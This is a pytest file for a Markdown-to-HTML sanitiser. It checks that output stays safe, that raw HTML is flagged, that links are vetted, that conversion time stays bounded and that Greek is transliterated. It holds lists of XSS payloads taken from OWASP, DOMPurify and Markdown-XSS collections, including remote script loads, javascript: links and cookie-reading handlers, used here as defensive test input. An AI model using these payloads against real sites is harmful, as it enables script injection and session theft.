"""Markdown → safe HTML. Attack strings come from where others collect them; each group says from where."""

from __future__ import annotations

import doctest
import re
from typing import Any
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gazette.content import markup, prose, translit
from gazette.content.markup import CODE, FILE_MARK, ID_PREFIX, PAGE_MARK, PHOTO, conversion, convert, is_file_name
from tests.support.growth import growth

# OWASP, "XSS Filter Evasion Cheat Sheet" (cheatsheetseries.owasp.org), the vectors that need no browser of 2006 only
OWASP = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    '\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14; javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<svg/onload=alert('XSS')>",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    "<A HREF=\"javascript:document.location='http://www.google.com/'\">XSS</A>",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<? echo('<SCR)'; echo('IPT>alert(\"XSS\")</SCRIPT>'); ?>",
]
# DOMPurify's test fixtures (github.com/cure53/DOMPurify, test/fixtures/expect.mjs), by class: mutation through foreign
# content, clobbering of DOM names, templates, unfinished tags, comments, namespaces
DOMPURIFY = [
    '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<a id="location"></a><form name="body"><input name="attributes"></form>',
    "<img src=x name=getElementById><img src=y id=cookie>",
    "<template><s><script>alert(1)</script></s></template>",
    '<svg><use xlink:href="data:image/svg+xml;base64,PHN2Zz4=#x" /></svg>',
    "<svg><animate xlink:href=#xss attributeName=href values=javascript:alert(1) /><a id=xss><text>x",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<div id="1"><![CDATA[<img src onerror=alert(1)>]]></div>',
    "<xmp><!--</xmp><img src=x onerror=alert(1)>-->",
    "<title>&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;</title>",
    "<isindex type=image src=1 onerror=alert(1)>",
    '<embed src="javascript:alert(1)" allowscriptaccess=always>',
    '<a href="javas\x00cript:alert(1)">x</a>',
    '<video><source onerror="alert(1)"></video><details open ontoggle=alert(1)>',
    "<custom-element onfocus=alert(1) tabindex=1 autofocus>",
]
# Addresses in Markdown's own clothes: the "Markdown XSS" lists of github.com/cujanovic/Markdown-XSS-Payloads and of
# github.com/showdownjs/showdown ("Markdown's XSS Vulnerability")
MARKDOWN = [
    "[a](javascript:alert(1))",
    "[a](j    a   v   a   s   c   r   i   p   t:prompt(document.cookie))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](javascript&#58;alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29)",
    "[a](\x01javascript:alert(1))",
    "[a](javascript\\:alert(1))",
    "[a](//evil.example/x)",
    "[a](\\\\evil.example/x)",
    "[a](/\\evil.example/x)",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K)",
    "[a](vbscript:msgbox(1))",
    "[a](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "![a](javascript:alert(1))",
    '![a]("onerror="alert(1))',
    '![a](https://x.gr/a.png"onload="alert(1))',
    '![" onerror="alert(1)](a.png)',
    '[a](https://x.gr "t" onclick="alert(1)")',
    "[a](https://x.gr '\" onclick=alert(1) x=\"')",
    "[a]: javascript:alert(1)\n\n[a]",
    '[a][b]\n\n[b]: <javascript:alert(1)> "x"',
    '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>\n",
    "a | b\n--|--\n<script>alert(1)</script> | [x](javascript:alert(1))",
    "[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))",
    '[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: x',
    "# <script>alert(1)</script> {: onclick=alert(1) }",
    "\u0002wzxhzdk:0\u0003 \u0002amp\u0003 klzzwxh:0000",
    f"{PAGE_MARK}javascript:alert(1) [a]({FILE_MARK}x) [b]({PAGE_MARK}//evil.example)",
]
ATTRIBUTES = {"href", "class", "title", "id", "role", "start", "style", PHOTO}
NAMES_OF_SCRIPTS = re.compile(
    r"script|iframe|object|embed|svg|math|style|form|input|meta|link|base|template|video|audio"
)


def parsed(html: str) -> Any:
    return html5lib.parseFragment(html, namespaceHTMLElements=False)


def safe(html: str) -> None:
    """Judged by a parser that is neither the converter's nor the sanitizer's."""
    for element in parsed(html).iter():
        assert isinstance(element.tag, str), "a comment"
        assert element.tag == "DOCUMENT_FRAGMENT" or element.tag in conversion._TAGS, element.tag
        _safe_attributes(element)


def _safe_attributes(element: Element) -> None:
    assert set(element.keys()) <= ATTRIBUTES, element.attrib
    assert PHOTO not in element.attrib or (element.tag == "figure" and is_file_name(element.get(PHOTO, "")))
    for name in ("href", "src"):
        address = element.get(name, "")
        starts = ("https://", "http://", "mailto:", "tel:", "#" + ID_PREFIX, PAGE_MARK)
        assert not address or address.startswith(starts), address
        assert not re.match(rf"[{PAGE_MARK}{FILE_MARK}]\s*(//|\\|[a-z]+:)", address), address
    assert element.get("style", "text-align: left;") in {f"text-align: {way};" for way in ("left", "right", "center")}
    assert element.get("id", ID_PREFIX).startswith(ID_PREFIX)


@pytest.mark.parametrize("attack", [*OWASP, *DOMPURIFY, *MARKDOWN])
@pytest.mark.parametrize(
    "around", ["{}", "Text {} text.", "- {}\n- x", "> {}", "## {}", "[{}](/a/)", "![{}](a.png)", "**{}**"]
)
def test_nothing_executable_survives(attack: str, around: str) -> None:
    safe(convert(around.format(attack)).html)


@pytest.mark.parametrize("attack", [*OWASP, *DOMPURIFY])
def test_html_is_reported(attack: str) -> None:
    kinds = {found.kind for found in convert(attack).findings}
    assert kinds & {"raw-html", "nested-too-deep"}


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from([*OWASP, *DOMPURIFY, *MARKDOWN, "\n\n", "> ", "- ", "`", "[", "](", ")", "<", "\\"]), max_size=6
    )
)
def test_attacks_together(pieces: list[str]) -> None:
    safe(convert("".join(pieces)).html)


# ---- what stays


def test_a_text() -> None:
    fragment = convert(
        "One *two* **three** `four`.\n\n## Ένταξη τώρα\n\n- a\n- b\n\n> q\n\n1. x\n\na | b\n:-|-:\n1 | 2\n\n"
        "[home](/), [city](/members/athens/#top), [out](https://x.gr/?a=1&b=2), [mail](mailto:a@x.gr), "
        "[up](<#Ένταξη τώρα>)\n\n"
        "![A bed](garden.png \"Now\")"
    )  # fmt: skip
    assert [found for found in fragment.findings if found.kind not in ("link", "image", "heading")] == []
    for part in (
        "<p>One <em>two</em> <strong>three</strong> <code>four</code>.</p>",
        '<h2 id="c-entaxi-tora">Ένταξη τώρα</h2>',
        '<th style="text-align: left;">a</th>',
        f'<a href="{PAGE_MARK}">home</a>',
        f'<a href="{PAGE_MARK}members/athens/#c-top">city</a>',
        '<a href="https://x.gr/?a=1&amp;b=2">out</a>',
        '<a href="#c-entaxi-tora">up</a>',
        f'<figure {PHOTO}="garden.png"></figure>',
    ):
        assert part in fragment.html
    safe(fragment.html)


def test_plain_text_and_excerpt() -> None:
    fragment = convert("A *city*[^1] &amp; a [link](/a/)\nover lines.\n\n## Head\n\n- one\n- two\n\n[^1]: Note.\n")
    assert fragment.plain.split("\n") == ["A city & a link over lines.", "Head", "one", "two", "Note."]
    assert fragment.excerpt == "A city & a link over lines."
    long = convert("word " * 100).excerpt
    assert len(long) <= 201
    assert long.endswith("word…")


def test_ids_are_prefixed_and_used_once() -> None:
    html = convert("## A\n\n## A\n\n## «»\n\nx[^1] y[^b-c]\n\n[^1]: n\n[^b-c]: m").html
    ids = [element.get("id") for element in parsed(html).iter() if element.get("id")]
    assert ids == ["c-a", "c-a-2", "c-section", "c-fnref-1", "c-fnref-b-c", "c-fn-1", "c-fn-b-c"]
    targets = [element.get("href")[1:] for element in parsed(html).iter("a")]
    assert set(targets) <= set(ids)


def test_texts_do_not_see_each_other() -> None:
    convert("[^1] [x]\n\n[^1]: n\n\n[x]: /members/athens/")
    assert convert("[^1] [x]").html == "<p>[^1] [x]</p>"


# ---- what the checker is told, and where


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("a\n\n## B\n\nC\n===\n\nD\n-", [("heading", "B", 3, 2), ("heading", "C", 5, 1), ("heading", "D", 8, 2)]),
        ("a\n> ## Q\n\n## B", [("heading", "Q", 2, 2), ("heading", "B", 4, 2)]),
        ("- a\n\n    ## L\n\n## B", [("heading", "L", 3, 2), ("heading", "B", 5, 2)]),
        ("a\n\n#tag\n\n# T\n\n## B", [("heading", "T", 5, 1), ("heading", "B", 7, 2)]),
        ("```\n## no\n```\n\n## B", [("heading", "B", 5, 2)]),
        ("## *B* [c](/d/)\n\n## `e` f", [("heading", "B c", 1, 2), ("link", "/d/", 1, 0), ("heading", "e f", 3, 2)]),
        ("a `b\n\n## c` d", [("heading", "c` d", 3, 2)]),
        ("(a)\n\n[b]()", [("link", "", 3, 0)]),
        (
            '[a](/x/)\n\n[b](/x/) `(/x/)`\n\n[c](/x/ "t")',
            [("link", "/x/", 1, 0), ("link", "/x/", 3, 0), ("link", "/x/", 5, 0)],
        ),
        ("a\n\n[x][r]\n\n[r]: foo/`b`c", [("link", "foo/`b`c", 5, 0)]),
        ("a\n\n[x](foo/`b`c)", [("link", "foo/`b`c", 3, 0)]),
        ("a\n\n<https://x.gr>", [("link", "https://x.gr", 3, 0)]),
        ("a\n\n![](a.png)\n![b][c]\n\n[c]: c.png", [("image", "a.png", 3, 0), ("image", "c.png", 6, 0)]),
        ("a\n![b](a.png)", [("image", "a.png", 2, 0), ("image-within", "a.png", 2, 0)]),
        ("a\n\n[](/b/)", [("link", "/b/", 3, 0), ("link-without-words", "/b/", 3, 0)]),
        ("a\n\n{#id} {{x}}", [("template-syntax", "{{", 3, 0), ("attribute-syntax", "{#id}", 3, 0)]),
        ("a\n\n`<b>` x <i", [("raw-html", "<i", 3, 0)]),
        ("a `x\n\n<b> ` c", [("raw-html", "<b>", 3, 0)]),
        ("1 < 2, a <3 b, x &lt;b&gt; \\`<", []),
    ],
)
def test_findings_and_their_lines(body: str, expected: list[tuple[str, str, int, int]]) -> None:
    def told(first_line: int) -> list[tuple[str, str, int, int]]:
        found = [(f.kind, f.value, f.line - first_line + 1, f.level) for f in convert(body, first_line).findings]
        return sorted(found, key=lambda finding: finding[2])

    assert told(1) == expected
    assert told(7) == expected


@settings(max_examples=100, deadline=None)
@given(st.lists(st.sampled_from(["`", "``", "```", "~~~", "\n", "\n\n", "a", " ", "\\", "<b>"]), max_size=30))
def test_blanking_code_keeps_lines_and_length(pieces: list[str]) -> None:
    text = "".join(pieces)
    blanked = markup.without_code(text)
    assert len(blanked) == len(text)
    assert [i for i, letter in enumerate(blanked) if letter == "\n"] == [
        i for i, letter in enumerate(text) if letter == "\n"
    ]
    assert all(after in (before, CODE) for before, after in zip(text, blanked, strict=True))


@pytest.mark.parametrize(
    ("text", "blanked"),
    [
        ("a `b` c", "a ··· c"),
        ("a ``b ` c`` d", "a ········· d"),
        ("a ` b", "a ` b"),
        ("a \\`b` c", "a \\`b` c"),
        ("a `b\n\nc` d", "a `b\n\nc` d"),
        ("```\na\n```\nb", "···\n·\n···\nb"),
        ("~~~ x\na\n~~~\nb", "·····\n·\n···\nb"),
        ("```\na\n~~~\nb", "···\n·\n···\n·"),
        ("- a\n  ```\n  b\n  ```\n  c", "- a\n·····\n···\n·····\n  c"),
        ("a\u2028b\n```\nc\n```\nd", "a\u2028b\n···\n·\n···\nd"),
        ("a\fb\n```\nc\n```\nd", "a\fb\n···\n·\n···\nd"),
        ("> ~~~\n> a\n> ~~~\nb", "·····\n···\n·····\nb"),
    ],
)
def test_blanked_code(text: str, blanked: str) -> None:
    assert markup.without_code(text).replace(CODE, "·") == blanked


# ---- time


PIECES = [
    *(
        "\n- a",
        "x\n- a\n\n",
        "\\- a\n",
        "α) a\n",
        "•\xa0",
        "<mailto:a",
        "<tel:",
        "`",
        "`a",
        "``b` ",
        "[",
        "[a",
        "[a](",
        "![",
        "](",
        "*",
        "**a",
        "_a ",
        "***a* ",
        "<",
        "<a ",
        "<a\n",
        "<!--",
        "&",
        "&#",
    ),
    *(
        "\\",
        "(",
        "|",
        "a|b\n-|-\n",
        "> ",
        ">\n",
        "- ",
        "- a\n  ",
        "1. ",
        "-",
        "=",
        "+",
        "-\n",
        " ",
        "    ",
        "\t",
        "# ",
        "#\n",
    ),
    *("=\n", "a\n-\n", "[^1]", "[^1]: a\n", "[a]: b\n", "[a]: ", '[a](b "', "[a][b]", "![a](b)", "(\n", "([", "*_"),
    *(
        "a",
        "α",
        "a ",
        "\n",
        "\n\n",
        "\n\n\n    a",
        "```\n",
        "~~~ a\n",
        "~",
        "http://",
        "<http://",
        "@",
        "{",
        "{{",
        "{:",
    ),
    *("{#a", "--8<--", "8<", "\x02", '"', "'"),
]


@pytest.mark.parametrize("piece", PIECES)
def test_time_grows_in_proportion(piece: str) -> None:
    """Refused or converted, but soon. `python -m tools.bench.limits` tries whole texts, this one a third of each."""
    assert growth(lambda size: convert(piece * (size // len(piece))), markup.MAX_LETTERS // 3) < 8


REFUSING = {"nested-too-deep", "text-too-long", "too-many-signs"}


def test_large_and_deep_texts_are_refused_in_words() -> None:
    for body in ("a" * (markup.MAX_LETTERS + 1), ">" * 40 + "a", "- " * 15 + "a", "[a](b) " * 301, "\\" * 2001):
        fragment = convert(body, 5)
        assert fragment.html == fragment.plain == ""
        assert {found.kind for found in fragment.findings} & REFUSING and {
            found.line for found in fragment.findings
        } == {5}


# ---- addresses and letters


@pytest.mark.parametrize(
    ("address", "marked"),
    [
        ("/", PAGE_MARK),
        ("/about/#Ένταξη", f"{PAGE_MARK}about/#c-entaxi"),
        ("/about/?a#c-entaxi", f"{PAGE_MARK}about/?a#c-entaxi"),
        ("/about/#", f"{PAGE_MARK}about/"),
        ("#", "#"),
        ("/members/athens/", f"{PAGE_MARK}members/athens/"),
        ("//x.gr", ""),
        ("/\\x.gr", ""),
        ("/\t/x.gr", ""),
        ("a.png", ""),
        ("../a.png", ""),
        ("a/b.png", ""),
        ("https://x.gr", "https://x.gr"),
        ("HTTPS://x.gr", "HTTPS://x.gr"),
        ("mailto:a@x.gr", "mailto:a@x.gr"),
        ("tel:+302100000000", "tel:+302100000000"),
        ("ftp://x.gr", ""),
        ("javascript:x", ""),
        ("java\nscript:x", ""),
        ("&#106;avascript:x", ""),
        ("http&#58;//x", "http&#58;//x"),
        ("http://[x", ""),
        ("#Ένταξη", "#c-entaxi"),
        ("", ""),
    ],
)
def test_marked_addresses(address: str, marked: str) -> None:
    assert markup.marked(address) == marked


def test_translit_doctests() -> None:
    assert doctest.testmod(translit).failed == 0
    assert doctest.testmod(translit).attempted >= 2


@pytest.mark.parametrize(
    ("greek", "latin"),
    [
        ("Ευαγγελία", "evangelia"),
        ("αυτί", "afti"),
        ("Αύγουστος", "avgoustos"),
        ("Μπιζάνι", "bizani"),
        ("Λάμπρος", "lampros"),
        ("Ηρακλής", "iraklis"),
        ("ψυχή", "psychi"),
        ("ΟΥΡΑΝΟΣ", "ouranos"),
        ("Ἀθῆναι", "athinai"),
        ("προϋπόθεση", "proypothesi"),
    ],
)
def test_translit(greek: str, latin: str) -> None:
    assert translit.to_latin(greek) == latin


def test_what_was_struck_out_is_in_no_excerpt_and_its_neighbours_stay_apart() -> None:
    words = {
        "~~16~~ 17 Μαΐου": "17 Μαΐου",
        "στις ~~16~~, 17 Μαΐου": "στις, 17 Μαΐου",
        "~~α ~β~ γ~~ δ": "δ",
        "12~14~15": "12 15",
        "2026. Μια χρονιά": "2026. Μια χρονιά",
        "- α\n  - β": "α\nβ",
        "φεστιβάλ[^1] γ\n\n[^1]: δ": "φεστιβάλ γ\nδ",
    }
    assert {text: convert(text).plain for text in words} == words
    assert markup.plain("<p>69<del>7</del>8</p>", with_struck=True) == "6978"


def test_html_is_what_github_takes_for_it() -> None:
    for text, has_html in (("a<b και b>c", False), ("a <b>c</b>", True), ("α <www.example.gr>", True)):
        assert ("raw-html" in {found.kind for found in convert(text).findings}) is has_html, text


HONEST_CODE = {
    "a letter in a fence": "```\n" + " " * 60 + "Καρδίτσα, 3 Μαΐου\n\n" + " " * 50 + "Αγαπητέ κύριε,\n```",
    "quotations in a fence": "```\n" + ">" * 40 + " a\n```",
    "a fence in a list": "- α\n\n  ```\n" + " " * 70 + "b {{ c }} <d>\n  ```",
    "a fence in a quotation": "> ~~~\n> " + " " * 70 + "<b>{% c %}</b>\n> ~~~",
    "a fence left open": "```\n" + " " * 70 + "<b>",
    "a paragraph that begins with code": "`make site` χτίζει τον ιστότοπο.\n\n``a ` b`` κι άλλο.",
    "code of many brackets": "```\n" + "[" * 400 + "\n" + "# a\n" * 700 + "```",
    "code with signs of templates": "`{{ a }}` και `<b>` και `{: .c }` και `[^1]`",
    "a fence shown as it is written": "Έτσι:\n\n    ```js\n    a\n    ```",
    "a list of code": "- `a`\n- `<b>`\n  - ``c``",
}


@pytest.mark.parametrize("name", HONEST_CODE)
def test_honest_code_is_not_refused(name: str) -> None:
    text = HONEST_CODE[name]
    assert convert(text).findings == ()
    assert list(prose.unmade_links(text)) == []
    assert list(prose.lone_footnotes(text)) == []


@pytest.mark.parametrize(
    ("body", "kinds"),
    [
        ("[^1]: ", []),
        ("[^1]: [^1]: ", []),
        ("Words[^1].\n\n[^1]: [^1]: ", ["unlike-github"]),
        ("Words[^1].\n\n[^1]: [a]: https://example.org", ["unlike-github", "definition-unused"]),
        ("Words.\n\n[^1]:", []),
        ("Words[^1].\n\n[^1]: ", ["unlike-github"]),
        ("Words[^1], more[^2].\n\n[^1]: \n    \n[^2]: Two", ["unlike-github"]),
    ],
)
def test_a_note_without_words_is_none(body: str, kinds: list[str]) -> None:
    """Python-Markdown fails on one that nothing calls; where one is called, its mark is told at its line."""
    converted = convert(body)
    assert [found.kind for found in converted.findings] == kinds
    assert "footnote-ref" not in converted.html.partition("more")[0]
